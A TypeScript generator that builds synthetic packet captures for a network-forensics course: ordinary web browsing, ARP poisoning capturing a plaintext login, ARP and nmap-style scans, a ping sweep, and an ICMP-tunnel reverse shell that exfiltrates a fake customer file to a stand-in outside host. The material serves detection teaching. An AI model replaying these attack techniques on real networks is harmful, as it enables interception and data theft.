/**
 * `npm run samples`: writes the sample captures the app offers (public/samples/*.pcap, one per course
 * scenario) and public/samples/index.json. Every file is made here, by the project's own packet forge
 * (test/fixtures/forge), from a fixed seed and fixed times: the same bytes on every run. Addresses are
 * private (RFC 1918) or documentation ranges (RFC 5737, RFC 3849), names are under .example (RFC 2606).
 */
import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { gzipSync } from 'node:zlib';
import { BROADCAST_MAC, ZERO_MAC, ipv4, ipv6, ipv6MulticastMac, linkLocalFromMac, mac, solicitedNode } from '../test/fixtures/forge/addresses';
import { ByteWriter } from '../test/fixtures/forge/byte-writer';
import { CaptureScript } from '../test/fixtures/forge/capture-script';
import { internetChecksum } from '../test/fixtures/forge/checksum';
import {
  DNS_A,
  DNS_AAAA,
  DNS_AXFR,
  DNS_CNAME,
  DNS_FLAGS_AUTHORITATIVE,
  DNS_FLAGS_QUERY,
  DNS_FLAGS_RESPONSE,
  DNS_MX,
  DNS_NS,
  DNS_RCODE_REFUSED,
  DNS_SOA,
  DNS_SRV,
  DNS_TXT,
  writeDnsMessage,
  type DnsMessage,
  type DnsRecord,
  type DnsSoa,
} from '../test/fixtures/forge/dns';
import { basicAuthorization, httpRequestHead, httpResponseHead, percentEncode, type HeaderList } from '../test/fixtures/forge/http';
import {
  ICMPV6_ECHO_REPLY,
  ICMPV6_ECHO_REQUEST,
  neighborAdvertisement,
  neighborSolicitation,
  routerAdvertisement,
  routerSolicitation,
} from '../test/fixtures/forge/ndp';
import {
  ACK,
  ARP_REPLY,
  ARP_REQUEST,
  ETHERNET_MIN_FRAME,
  ETHERTYPE_ARP,
  ETHERTYPE_IPV4,
  ETHERTYPE_IPV6,
  FIN,
  IPPROTO_ICMP,
  IPPROTO_ICMPV6,
  IPPROTO_IPV6,
  IPPROTO_NONE,
  IPPROTO_TCP,
  IPPROTO_UDP,
  PSH,
  RST,
  SYN,
  URG,
  type FrameBuilder,
  type TcpFields,
} from '../test/fixtures/forge/packets';
import { CLIENT, SERVER, TcpSession, type Direction, type TcpEndpoint, type TcpSessionOptions } from '../test/fixtures/forge/tcp-session';
import { writeApplicationData, writeChangeCipherSpec, writeClientHello, writeServerHello } from '../test/fixtures/forge/tls';
import { generateMixedCapture } from '../bench/generate';

const OUT = resolve('public/samples');
/** Every file must stay small enough to ship with the app. */
const MAX_SAMPLE_BYTES = 200 * 1024;

// The lab network every scenario shares: a /24 behind a gateway, a workstation, an attacker, some servers.
const GW_MAC = mac('00:1a:2b:3c:4d:5e');
const GW = ipv4('192.168.1.1');
const HOST_MAC = mac('3c:22:fb:12:34:56');
const HOST = ipv4('192.168.1.23');
const ATTACKER_MAC = mac('08:00:27:5c:a1:66');
const ATTACKER = ipv4('192.168.1.66');
const WEB_MAC = mac('00:50:56:8a:10:80');
const WEB = ipv4('192.168.1.80');
const FTP_MAC = mac('00:50:56:8a:10:21');
const FTP = ipv4('192.168.1.21');
const MAIL_MAC = mac('00:50:56:8a:10:25');
const MAIL = ipv4('192.168.1.25');
const NS_MAC = mac('00:50:56:8a:10:53');
const NS = ipv4('192.168.1.53');

const FIREFOX = 'Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0';

interface Sample {
  file: string;
  title: string;
  description: string;
  scenario: string;
  /** Finding ids (DESIGN.md §5) the capture is made to show; detectors may add others. */
  expectFindings: string[];
  build: () => Uint8Array;
}

/** Microseconds at a time of day on 12 March 2024 (UTC). */
function at(h: number, m: number, s = 0): number {
  return Date.UTC(2024, 2, 12, h, m, s) * 1000;
}

function latin1(s: string): Uint8Array {
  const out = new Uint8Array(s.length);
  for (let i = 0; i < s.length; i++) out[i] = s.charCodeAt(i);
  return out;
}

function concat(...parts: Uint8Array[]): Uint8Array {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let at = 0;
  for (const p of parts) {
    out.set(p, at);
    at += p.length;
  }
  return out;
}

function tcp(s: CaptureScript, client: TcpEndpoint, server: TcpEndpoint, o: Partial<TcpSessionOptions> = {}): TcpSession {
  return new TcpSession(s.f, s.clock, s.rng, client, server, { clientIsn: s.rng.u32(), serverIsn: s.rng.u32(), ...o });
}

/** A lone ACK from one side (the end of a request/response exchange). */
function ack(s: CaptureScript, t: TcpSession, dir: Direction): void {
  s.run([t.segment(dir, ACK)]);
}

/** One line-protocol turn: a command from the client, the server's reply (FTP, SMTP). */
function turn(s: CaptureScript, t: TcpSession, command: string, reply: string): void {
  s.run(t.push(CLIENT, latin1(command)));
  s.run(t.push(SERVER, latin1(reply)));
}

function httpResponse(status: number, reason: string, headers: HeaderList, body: string): Uint8Array {
  return latin1(httpResponseHead(status, reason, [...headers, ['Content-Length', String(body.length)]]) + body);
}

/** A UDP datagram over IPv4 in one Ethernet frame. */
function udp4(
  s: CaptureScript,
  gap: number,
  from: { mac: Uint8Array; ip: number; port: number },
  to: { mac: Uint8Array; ip: number; port: number },
  body: (f: FrameBuilder) => void,
  ttl = 64,
): void {
  s.frame(gap, (f) => {
    f.ethernet(to.mac, from.mac, ETHERTYPE_IPV4).ipv4({ src: from.ip, dst: to.ip, protocol: IPPROTO_UDP, ttl, id: s.rng.int(0, 0xffff) });
    f.udp(from.port, to.port);
    body(f);
  }, ETHERNET_MIN_FRAME);
}

function dns4(s: CaptureScript, gap: number, from: { mac: Uint8Array; ip: number; port: number }, to: { mac: Uint8Array; ip: number; port: number }, m: DnsMessage): void {
  udp4(s, gap, from, to, (f) => writeDnsMessage(f, m));
}

/** An ICMP echo request or reply (RFC 792) with the given data. */
function echo4(s: CaptureScript, gap: number, srcMac: Uint8Array, dstMac: Uint8Array, src: number, dst: number, reply: boolean, id: number, seq: number, data: Uint8Array, ttl = 64): void {
  s.frame(gap, (f) => {
    f.ethernet(dstMac, srcMac, ETHERTYPE_IPV4).ipv4({ src, dst, protocol: IPPROTO_ICMP, ttl, id: s.rng.int(0, 0xffff), dontFragment: !reply });
    f.icmp(reply ? 0 : 8, 0, ((id << 16) | seq) >>> 0).bytes(data);
  }, ETHERNET_MIN_FRAME);
}

/** Linux ping's 56 data bytes: a struct timeval, then 0x10, 0x11, … (iputils). */
function pingData(timeMicros: number): Uint8Array {
  const d = new Uint8Array(56);
  const dv = new DataView(d.buffer);
  dv.setUint32(0, Math.floor(timeMicros / 1e6), true);
  dv.setUint32(8, timeMicros % 1e6, true);
  for (let i = 16; i < 56; i++) d[i] = i;
  return d;
}

function arp(s: CaptureScript, gap: number, op: number, srcMac: Uint8Array, dstMac: Uint8Array, senderMac: Uint8Array, senderIp: number, targetMac: Uint8Array, targetIp: number): void {
  s.frame(gap, (f) => f.ethernet(dstMac, srcMac, ETHERTYPE_ARP).arp(op, senderMac, senderIp, targetMac, targetIp), ETHERNET_MIN_FRAME);
}

/** The client and server halves of a TLS 1.3 handshake as they travel in TCP (ClientHello; ServerHello … Finished). */
function tlsHandshake(s: CaptureScript, t: TcpSession, serverName: string, serverFlight: number): void {
  const w = new ByteWriter();
  const rng = s.rng;
  writeClientHello(w, { random: rng.bytes(32), sessionId: rng.bytes(32), serverName, alpn: ['h2', 'http/1.1'], keyShare: rng.bytes(32), padTo: 512 });
  s.run(t.push(CLIENT, w.copy()));
  w.reset();
  writeServerHello(w, { random: rng.bytes(32), sessionId: rng.bytes(32), cipherSuite: 0x1301, keyShare: rng.bytes(32) });
  writeChangeCipherSpec(w);
  writeApplicationData(w, rng.bytes(serverFlight), 0, serverFlight);
  s.run(t.send(SERVER, w.copy()));
}

/** Opaque TLS records of these body sizes, one after the other. */
function tlsRecords(s: CaptureScript, ...sizes: number[]): Uint8Array {
  const w = new ByteWriter();
  for (const n of sizes) {
    if (n === 0) writeChangeCipherSpec(w);
    else writeApplicationData(w, s.rng.bytes(n), 0, n);
  }
  return w.copy();
}

// ---------------------------------------------------------------------------------------------------------
// Normal traffic

const INTRO_PAGE = `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Harbor Travel - Weekend trips</title>
<link rel="stylesheet" href="/style.css">
</head>
<body>
<header><h1>Harbor Travel</h1>
<nav><a href="/">Home</a> | <a href="/trips">Trips</a> | <a href="https://secure.harbor-travel.example/login">Sign in</a></nav>
</header>
<main>
<h2>Weekend trips this spring</h2>
<p>Pack a bag and leave the city behind. Our weekend trips start every Friday afternoon and bring you back
on Sunday evening, rested and with a camera full of pictures.</p>
<ul>
<li><a href="/trips/lakes">Three lakes by bike</a> - 2 nights, from 189 EUR</li>
<li><a href="/trips/coast">Coast walk and seafood</a> - 2 nights, from 215 EUR</li>
<li><a href="/trips/mountain">Mountain hut weekend</a> - 2 nights, from 160 EUR</li>
<li><a href="/trips/city">Old town and museums</a> - 1 night, from 99 EUR</li>
</ul>
<h2>Why travel with us</h2>
<p>Small groups of at most twelve people, local guides who grew up where they take you, and trains
instead of planes wherever we can. Every trip is checked by our team before it goes on sale.</p>
<p>Questions? Write to <a href="mailto:hello@harbor-travel.example">hello@harbor-travel.example</a> or call us
on weekdays between nine and five.</p>
</main>
<footer><p>Harbor Travel - 12 Quay Street - <a href="/privacy">Privacy</a></p></footer>
</body>
</html>
`;

const INTRO_CSS = `body { font-family: Georgia, serif; margin: 0 auto; max-width: 46em; color: #222; background: #fdfcf8; }
header { border-bottom: 2px solid #2a6f97; padding: 1em 0; }
h1 { color: #2a6f97; margin: 0; }
nav a { color: #2a6f97; text-decoration: none; }
main { padding: 1em 0; line-height: 1.5; }
li { margin: .3em 0; }
footer { border-top: 1px solid #ccc; font-size: .85em; color: #666; }
`;

const NOT_FOUND_PAGE = `<html>
<head><title>404 Not Found</title></head>
<body>
<center><h1>404 Not Found</h1></center>
<hr><center>nginx/1.24.0</center>
</body>
</html>
`;

function introWeb(): Uint8Array {
  const s = new CaptureScript('intro-web', at(9, 14, 5));
  const site = ipv4('198.51.100.80');
  const secure = ipv4('203.0.113.43');
  const resolver = { mac: GW_MAC, ip: GW, port: 53 };
  const soa = (zone: string): DnsRecord => ({
    name: zone,
    type: DNS_SOA,
    ttl: 900,
    data: { mname: `ns1.${zone}`, rname: `hostmaster.${zone}`, serial: 2024031101, refresh: 7200, retry: 900, expire: 1209600, minimum: 300 },
  });
  // The workstation finds its gateway, then asks the gateway's resolver for the web site.
  arp(s, 0, ARP_REQUEST, HOST_MAC, BROADCAST_MAC, HOST_MAC, HOST, ZERO_MAC, GW);
  arp(s, 310, ARP_REPLY, GW_MAC, HOST_MAC, GW_MAC, GW, HOST_MAC, HOST);
  const q = { mac: HOST_MAC, ip: HOST, port: 41877 };
  dns4(s, 120, q, resolver, { id: 0x5e1c, flags: DNS_FLAGS_QUERY, questions: [{ name: 'www.harbor-travel.example', type: DNS_A }] });
  dns4(s, 60, { ...q, port: 41877 }, resolver, { id: 0x8a0f, flags: DNS_FLAGS_QUERY, questions: [{ name: 'www.harbor-travel.example', type: DNS_AAAA }] });
  dns4(s, 11_800, resolver, q, {
    id: 0x5e1c,
    flags: DNS_FLAGS_RESPONSE,
    questions: [{ name: 'www.harbor-travel.example', type: DNS_A }],
    answers: [{ name: 'www.harbor-travel.example', type: DNS_A, ttl: 300, data: site }],
  });
  dns4(s, 380, resolver, q, {
    id: 0x8a0f,
    flags: DNS_FLAGS_RESPONSE,
    questions: [{ name: 'www.harbor-travel.example', type: DNS_AAAA }],
    authorities: [soa('harbor-travel.example')],
  });

  // Plain HTTP: the page, its style sheet, and a favicon the site does not have.
  const web = tcp(s, { mac: HOST_MAC, ip: HOST, port: 51724 }, { mac: GW_MAC, ip: site, port: 80 }, { rtt: 24_000, serverTtl: 54 });
  s.run(web.handshake(), 300);
  const browser: HeaderList = [
    ['Host', 'www.harbor-travel.example'],
    ['User-Agent', FIREFOX],
    ['Accept', 'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8'],
    ['Accept-Language', 'en-US,en;q=0.5'],
    ['Accept-Encoding', 'gzip, deflate'],
    ['Connection', 'keep-alive'],
    ['Upgrade-Insecure-Requests', '1'],
  ];
  const server: HeaderList = [
    ['Server', 'nginx/1.24.0'],
    ['Date', 'Tue, 12 Mar 2024 09:14:05 GMT'],
  ];
  s.run(web.push(CLIENT, latin1(httpRequestHead('GET', '/', browser))));
  s.run(web.send(SERVER, httpResponse(200, 'OK', [...server, ['Content-Type', 'text/html; charset=utf-8'], ['Last-Modified', 'Mon, 04 Mar 2024 16:20:00 GMT'], ['Connection', 'keep-alive']], INTRO_PAGE)));
  s.run(web.push(CLIENT, latin1(httpRequestHead('GET', '/style.css', [...browser.filter(([k]) => k !== 'Upgrade-Insecure-Requests' && k !== 'Accept'), ['Accept', 'text/css,*/*;q=0.1'], ['Referer', 'http://www.harbor-travel.example/']]))), 2_000);
  s.run(web.send(SERVER, httpResponse(200, 'OK', [...server, ['Content-Type', 'text/css'], ['Connection', 'keep-alive']], INTRO_CSS)));
  s.run(web.push(CLIENT, latin1(httpRequestHead('GET', '/favicon.ico', [...browser.filter(([k]) => k !== 'Upgrade-Insecure-Requests' && k !== 'Accept'), ['Accept', 'image/avif,image/webp,*/*'], ['Referer', 'http://www.harbor-travel.example/']]))), 9_000);
  s.run(web.send(SERVER, httpResponse(404, 'Not Found', [...server, ['Content-Type', 'text/html'], ['Connection', 'keep-alive']], NOT_FOUND_PAGE)));

  // The "Sign in" link: a name lookup and a TLS 1.3 connection; after the handshake everything is encrypted.
  s.wait(2_400_000);
  dns4(s, 0, { ...q, port: 53312 }, resolver, { id: 0x31d7, flags: DNS_FLAGS_QUERY, questions: [{ name: 'secure.harbor-travel.example', type: DNS_A }] });
  dns4(s, 9_700, resolver, { ...q, port: 53312 }, {
    id: 0x31d7,
    flags: DNS_FLAGS_RESPONSE,
    questions: [{ name: 'secure.harbor-travel.example', type: DNS_A }],
    answers: [
      { name: 'secure.harbor-travel.example', type: DNS_CNAME, ttl: 3600, data: 'harbor-travel.edge.cdn-3.example.net' },
      { name: 'harbor-travel.edge.cdn-3.example.net', type: DNS_A, ttl: 60, data: secure },
    ],
  });
  const tls = tcp(s, { mac: HOST_MAC, ip: HOST, port: 37502 }, { mac: GW_MAC, ip: secure, port: 443 }, { rtt: 18_000, serverTtl: 57 });
  s.run(tls.handshake(), 200);
  tlsHandshake(s, tls, 'secure.harbor-travel.example', 3_870);
  s.run(tls.push(CLIENT, tlsRecords(s, 0, 53, 412)));
  s.run(tls.send(SERVER, tlsRecords(s, 249, 249, 5_120)));
  s.run(tls.push(CLIENT, tlsRecords(s, 388)), 1_500_000);
  s.run(tls.send(SERVER, tlsRecords(s, 1_730)));
  // Leaving the page: close_notify (an encrypted alert, so application data on the wire) and FIN.
  s.run(tls.push(CLIENT, tlsRecords(s, 19)), 4_000_000);
  s.run(tls.close(CLIENT));
  s.run(web.close(SERVER), 60_000_000 - 8_000_000);
  return s.bytes();
}

// ---------------------------------------------------------------------------------------------------------
// ARP

function arpPoisoning(): Uint8Array {
  const s = new CaptureScript('arp-poisoning', at(10, 2, 0));
  // Before the attack: the workstation learns the gateway's real MAC and uses it.
  arp(s, 0, ARP_REQUEST, HOST_MAC, BROADCAST_MAC, HOST_MAC, HOST, ZERO_MAC, GW);
  arp(s, 290, ARP_REPLY, GW_MAC, HOST_MAC, GW_MAC, GW, HOST_MAC, HOST);
  const resolver = { mac: GW_MAC, ip: GW, port: 53 };
  const q = { mac: HOST_MAC, ip: HOST, port: 39211 };
  dns4(s, 200, q, resolver, { id: 0x2c41, flags: DNS_FLAGS_QUERY, questions: [{ name: 'intranet.corp.example', type: DNS_A }] });
  dns4(s, 8_100, resolver, q, {
    id: 0x2c41,
    flags: DNS_FLAGS_RESPONSE,
    questions: [{ name: 'intranet.corp.example', type: DNS_A }],
    answers: [{ name: 'intranet.corp.example', type: DNS_A, ttl: 600, data: ipv4('198.51.100.20') }],
  });
  // The attack: unsolicited replies telling the workstation "the gateway is at my MAC" and the gateway
  // "the workstation is at my MAC", repeated every two seconds so the poisoned entries never expire.
  s.wait(4_000_000);
  const poison = (gap: number) => {
    arp(s, gap, ARP_REPLY, ATTACKER_MAC, HOST_MAC, ATTACKER_MAC, GW, HOST_MAC, HOST);
    arp(s, 900, ARP_REPLY, ATTACKER_MAC, GW_MAC, ATTACKER_MAC, HOST, GW_MAC, GW);
  };
  for (let i = 0; i < 3; i++) poison(i === 0 ? 0 : 2_000_000);
  // Now the workstation's traffic goes to the attacker, who forwards it (a second copy, TTL one lower).
  const app = ipv4('198.51.100.20');
  const t = tcp(s, { mac: HOST_MAC, ip: HOST, port: 50412 }, { mac: GW_MAC, ip: app, port: 80 }, { rtt: 9_000, serverTtl: 60 });
  const relay = (frames: Iterable<number>) => {
    for (const gap of frames) {
      s.wait(gap);
      const frame = s.f.view();
      const realDst = frame.slice(0, 6);
      const hop1 = frame.slice();
      hop1.set(ATTACKER_MAC, 0);
      s.writer.packet(s.clock.now, hop1);
      const hop2 = frame.slice();
      hop2.set(realDst, 0);
      hop2.set(ATTACKER_MAC, 6);
      hop2[22] -= 1; // IPv4 TTL
      hop2[24] = hop2[25] = 0;
      const sum = internetChecksum(hop2, 14, 34);
      hop2[24] = sum >>> 8;
      hop2[25] = sum & 0xff;
      s.wait(140 + s.rng.exp(60));
      s.writer.packet(s.clock.now, hop2);
    }
  };
  s.wait(700_000);
  relay(t.handshake());
  const body = 'username=jsmith&password=Spring2024%21&remember=on';
  relay(
    t.push(
      CLIENT,
      latin1(
        httpRequestHead('POST', '/login', [
          ['Host', 'intranet.corp.example'],
          ['User-Agent', FIREFOX],
          ['Content-Type', 'application/x-www-form-urlencoded'],
          ['Content-Length', String(body.length)],
          ['Connection', 'keep-alive'],
        ]) + body,
      ),
    ),
  );
  relay(t.push(SERVER, httpResponse(302, 'Found', [['Server', 'Apache/2.4.58 (Ubuntu)'], ['Location', '/home'], ['Set-Cookie', 'sid=8f14e45fceea167a5a36dedd4bea2543; HttpOnly']], '')));
  relay([t.segment(CLIENT, ACK)]);
  poison(1_200_000);
  relay(t.close(CLIENT));
  poison(2_000_000);
  return s.bytes();
}

function arpScan(): Uint8Array {
  const s = new CaptureScript('arp-scan', at(10, 31, 12));
  // arp-scan --localnet: one who-has for every address of the /24, a few milliseconds apart.
  const alive = new Map<number, Uint8Array>([
    [1, GW_MAC],
    [21, FTP_MAC],
    [23, HOST_MAC],
    [25, MAIL_MAC],
    [53, NS_MAC],
    [80, WEB_MAC],
    [112, mac('a4:83:e7:1f:20:70')],
    [140, mac('b8:27:eb:4d:11:9c')],
    [201, mac('f0:18:98:aa:02:31')],
  ]);
  const pending: number[] = [];
  for (let i = 1; i <= 254; i++) {
    if (i === 66) continue;
    arp(s, 2_000 + s.rng.int(0, 600), ARP_REQUEST, ATTACKER_MAC, BROADCAST_MAC, ATTACKER_MAC, ATTACKER, ZERO_MAC, ipv4('192.168.1.0') + i);
    const who = pending.shift();
    if (who !== undefined) {
      const m = alive.get(who)!;
      arp(s, 200 + s.rng.int(0, 300), ARP_REPLY, m, ATTACKER_MAC, m, ipv4('192.168.1.0') + who, ATTACKER_MAC, ATTACKER);
    }
    if (alive.has(i)) pending.push(i);
  }
  for (const who of pending) {
    const m = alive.get(who)!;
    arp(s, 400, ARP_REPLY, m, ATTACKER_MAC, m, ipv4('192.168.1.0') + who, ATTACKER_MAC, ATTACKER);
  }
  return s.bytes();
}

// ---------------------------------------------------------------------------------------------------------
// TCP scans

const TOP_PORTS = [
  21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 443, 445, 993, 995, 1723, 3306, 3389, 5900, 8080, 1025, 587, 8888, 199, 1720, 465,
  548, 113, 81, 6001, 10000, 514, 5060, 179, 1026, 2000, 8443, 8000, 32768, 554, 26, 1433, 49152, 2001, 515, 8008, 49154, 1027, 5666,
  646, 5000, 5631, 631, 49153, 8081, 2049, 88, 79, 5800, 106, 2121, 1110, 49155, 6000, 513, 990, 5357, 427, 49156, 543, 544, 5101, 144,
  7, 389, 8009, 3128, 444, 9999, 5009, 7070, 5190, 3000, 5432, 1900, 3986, 13, 1029, 9, 5051, 6646, 49157, 1028, 873, 1755, 2717,
  4899, 9100, 119, 37, 1000, 3001, 5001, 82, 10010, 1030, 9090, 2107, 1024, 2103, 6004, 1801, 5050, 19, 8031, 1041, 255, 2967, 1049,
  1048, 1053, 3703, 1056, 1065, 1064, 1054, 17, 808, 3689, 1031, 1044, 1071, 5901, 100, 9102, 8010, 2869, 1039, 5120, 4001, 9000,
  2105, 636, 1038, 2601, 1, 7000, 1066, 1069, 625, 311, 280, 254, 4000, 1993, 1761, 5003, 2002, 2005, 1998, 1032, 1050, 6112, 3690,
  1521, 2161, 6002, 1080, 2401, 4045, 902, 7937, 787, 1058, 2383, 32771, 1059, 1040, 1033, 50000, 5555, 10001, 1494, 593, 2301, 3,
  3268, 7938, 1234, 1022, 1074, 8002, 1036, 1035, 9001, 1037, 464, 497, 1935, 6666, 2003, 6543, 1352, 24, 3269, 1111, 407, 500, 20,
];

/** Ports that answer on the lab web server. */
const OPEN_PORTS = new Set([22, 80, 443]);

function shuffled<T>(s: CaptureScript, items: readonly T[]): T[] {
  const a = [...items];
  for (let i = a.length - 1; i > 0; i--) {
    const j = s.rng.int(0, i);
    [a[i], a[j]] = [a[j], a[i]];
  }
  return a;
}

/** One raw TCP segment between the attacker and the web server (scanners build theirs without a socket). */
function rawTcp(s: CaptureScript, gap: number, fromAttacker: boolean, h: TcpFields, ttl: number): void {
  s.frame(gap, (f) => {
    f.ethernet(fromAttacker ? WEB_MAC : ATTACKER_MAC, fromAttacker ? ATTACKER_MAC : WEB_MAC, ETHERTYPE_IPV4);
    f.ipv4({ src: fromAttacker ? ATTACKER : WEB, dst: fromAttacker ? WEB : ATTACKER, protocol: IPPROTO_TCP, ttl, id: fromAttacker ? s.rng.int(0, 0xffff) : 0, dontFragment: !fromAttacker });
    f.tcp(h);
  }, ETHERNET_MIN_FRAME);
}

function synScan(): Uint8Array {
  const s = new CaptureScript('tcp-syn-scan', at(11, 5, 40));
  // nmap -sS: an ARP ping first (same subnet), then SYNs from one source port, window 1024, MSS only.
  arp(s, 0, ARP_REQUEST, ATTACKER_MAC, BROADCAST_MAC, ATTACKER_MAC, ATTACKER, ZERO_MAC, WEB);
  arp(s, 420, ARP_REPLY, WEB_MAC, ATTACKER_MAC, WEB_MAC, WEB, ATTACKER_MAC, ATTACKER);
  const sport = 58_113;
  const isn = s.rng.u32();
  for (const port of shuffled(s, TOP_PORTS)) {
    const ttl = s.rng.int(37, 59);
    rawTcp(s, 60 + s.rng.exp(250), true, { srcPort: sport, dstPort: port, seq: isn, ack: 0, flags: SYN, window: 1024, mss: 1460 }, ttl);
    if (OPEN_PORTS.has(port)) {
      rawTcp(s, 150 + s.rng.exp(80), false, { srcPort: port, dstPort: sport, seq: s.rng.u32(), ack: isn + 1, flags: SYN | ACK, window: 64240, mss: 1460 }, 64);
      // The scanner's kernel never opened this connection, so it resets it.
      rawTcp(s, 40, true, { srcPort: sport, dstPort: port, seq: isn + 1, ack: 0, flags: RST, window: 0 }, 64);
    } else {
      rawTcp(s, 150 + s.rng.exp(80), false, { srcPort: port, dstPort: sport, seq: 0, ack: isn + 1, flags: RST | ACK, window: 0 }, 64);
    }
  }
  return s.bytes();
}

function stealthScans(): Uint8Array {
  const s = new CaptureScript('tcp-null-fin-xmas-scan', at(11, 20, 3));
  // nmap -sN, -sF, -sX against the same 40 ports: closed ports answer RST/ACK (RFC 793 §3.4, "reset
  // generation"), open ones stay silent, so nmap probes them a second time.
  const ports = shuffled(s, TOP_PORTS.slice(0, 40));
  const phases: [string, number][] = [
    ['NULL', 0],
    ['FIN', FIN],
    ['XMAS', FIN | PSH | URG],
  ];
  for (const [, flags] of phases) {
    const sport = s.rng.int(40_000, 65_000);
    const seq = s.rng.u32();
    const silent: number[] = [];
    for (const port of ports) {
      rawTcp(s, 80 + s.rng.exp(300), true, { srcPort: sport, dstPort: port, seq, ack: 0, flags, window: 1024 }, s.rng.int(37, 59));
      if (OPEN_PORTS.has(port)) silent.push(port);
      // The reset acknowledges the probe: its sequence number plus one if it carried FIN.
      else rawTcp(s, 140 + s.rng.exp(80), false, { srcPort: port, dstPort: sport, seq: 0, ack: seq + (flags & FIN ? 1 : 0), flags: RST | ACK, window: 0 }, 64);
    }
    s.wait(1_000_000);
    for (const port of silent) rawTcp(s, 300, true, { srcPort: sport + 1, dstPort: port, seq, ack: 0, flags, window: 1024 }, s.rng.int(37, 59));
    s.wait(2_500_000);
  }
  return s.bytes();
}

// ---------------------------------------------------------------------------------------------------------
// ICMP

function pingSweep(): Uint8Array {
  const s = new CaptureScript('icmp-ping-sweep', at(12, 40, 0));
  // fping -g 172.16.5.0/24 from the attacker: the target subnet is behind the gateway, so every request goes
  // to the gateway's MAC; the router answers "host unreachable" for addresses nobody holds.
  const net = ipv4('172.16.5.0');
  const alive = new Set([1, 2, 10, 11, 12, 20, 33, 34, 50, 100, 101, 200, 250]);
  const id = 0x4d2f;
  type Sent = { host: number; seq: number; at: number; req: Uint8Array };
  let answer: Sent | null = null;
  const unanswered: Sent[] = [];
  const unreachable = (r: Sent) =>
    // ICMP destination unreachable / host unreachable (RFC 792), quoting the request's IP header and 8 bytes.
    s.frame(200, (f) => {
      f.ethernet(ATTACKER_MAC, GW_MAC, ETHERTYPE_IPV4).ipv4({ src: GW, dst: ATTACKER, protocol: IPPROTO_ICMP, ttl: 64, id: s.rng.int(0, 0xffff) });
      f.icmp(3, 1, 0).bytes(r.req);
    });
  for (let host = 1; host <= 254; host++) {
    const seq = host - 1;
    echo4(s, 10_000 + s.rng.int(0, 1_500), ATTACKER_MAC, GW_MAC, ATTACKER, net + host, false, id, seq, pingData(s.clock.now), 64);
    const sent = { host, seq, at: s.clock.now, req: s.f.view().slice(14, 14 + 28) };
    // A live host's reply comes back after the next request has gone out.
    if (answer) echo4(s, 300 + s.rng.exp(400), GW_MAC, ATTACKER_MAC, net + answer.host, ATTACKER, true, id, answer.seq, pingData(answer.at), 63);
    answer = alive.has(host) ? sent : null;
    if (!alive.has(host)) unanswered.push(sent);
    // The router gives up on ARP for a silent address after about three seconds.
    while (unanswered.length && s.clock.now - unanswered[0].at > 3_000_000) unreachable(unanswered.shift()!);
  }
  s.wait(3_000_000);
  for (const r of unanswered) unreachable(r);
  return s.bytes();
}

function icmpTunnel(): Uint8Array {
  const s = new CaptureScript('icmp-tunnel', at(13, 2, 30));
  // A reverse shell over ICMP echo (icmpsh-like): commands ride in the replies from outside, output in the
  // requests; sizes are far from ping's 56 bytes and replies do not mirror their requests.
  const peer = ipv4('203.0.113.99');
  const id = 0x0b1e;
  const rng = s.rng;
  const outputs = [
    'Microsoft Windows [Version 10.0.19045.4046]\r\n(c) Microsoft Corporation. All rights reserved.\r\n\r\nC:\\Users\\jsmith>',
    'corp\\jsmith\r\n\r\nC:\\Users\\jsmith>',
    '\r\nWindows IP Configuration\r\n\r\nEthernet adapter Ethernet0:\r\n\r\n   Connection-specific DNS Suffix  . : corp.example\r\n   IPv4 Address. . . . . . . . . . . : 192.168.1.23\r\n   Subnet Mask . . . . . . . . . . . : 255.255.255.0\r\n   Default Gateway . . . . . . . . . : 192.168.1.1\r\n\r\nC:\\Users\\jsmith>',
    ' Volume in drive C has no label.\r\n Directory of C:\\Users\\jsmith\\Documents\r\n\r\n03/11/2024  04:12 PM    <DIR>          .\r\n03/08/2024  09:30 AM            48,213 budget-2024.xlsx\r\n02/27/2024  11:02 AM           112,904 customers.csv\r\n03/01/2024  02:45 PM             9,877 vpn-config.txt\r\n               3 File(s)        170,994 bytes\r\n\r\nC:\\Users\\jsmith\\Documents>',
  ];
  const commands = ['whoami\n', 'ipconfig\n', 'cd Documents & dir\n', 'type customers.csv\n'];
  let seq = 1;
  const exchange = (request: Uint8Array, reply: Uint8Array, gap: number) => {
    echo4(s, gap, HOST_MAC, GW_MAC, HOST, peer, false, id, seq, request, 128);
    echo4(s, 31_000 + rng.exp(3_000), GW_MAC, HOST_MAC, peer, HOST, true, id, seq, reply, 49);
    seq++;
  };
  const idle = () => latin1('\0'.repeat(0));
  exchange(latin1(outputs[0]), idle(), 0);
  for (let i = 0; i < commands.length; i++) {
    for (let k = rng.int(2, 4); k > 0; k--) exchange(idle(), idle(), 1_000_000);
    exchange(idle(), latin1(commands[i]), 1_000_000);
    if (i < 3) exchange(latin1(outputs[i + 1]), idle(), 90_000);
  }
  // The file comes out in large chunks, one echo request each.
  let csv = 'customer_id,name,email,card_last4,city\r\n';
  for (let i = 0; i < 40; i++) csv += `${10_400 + i},${rng.pick(['Ana', 'Ben', 'Chloe', 'Dev', 'Eli', 'Fay'])} ${rng.pick(['Marsh', 'Okafor', 'Lind', 'Silva', 'Kaur'])},user${i}@mail.example,${rng.int(1000, 9999)},${rng.pick(['Lyon', 'Porto', 'Graz', 'Turku'])}\r\n`;
  const file = latin1(csv);
  for (let at = 0; at < file.length; at += 1_400) exchange(file.subarray(at, Math.min(file.length, at + 1_400)), idle(), 40_000);
  for (let k = 0; k < 3; k++) exchange(idle(), idle(), 1_000_000);
  return s.bytes();
}

// ---------------------------------------------------------------------------------------------------------
// IP fragmentation attacks

/** One IPv4 fragment from the attacker to the web server: `payload` at byte offset `offset` of the datagram. */
function fragment(s: CaptureScript, gap: number, protocol: number, id: number, offset: number, more: boolean, payload: Uint8Array, dst = WEB, dstMac = WEB_MAC): void {
  s.frame(gap, (f) => {
    f.ethernet(dstMac, ATTACKER_MAC, ETHERTYPE_IPV4).ipv4({ src: ATTACKER, dst, protocol, ttl: 64, id, moreFragments: more, fragmentOffset: offset });
    f.bytes(payload);
  }, ETHERNET_MIN_FRAME);
}

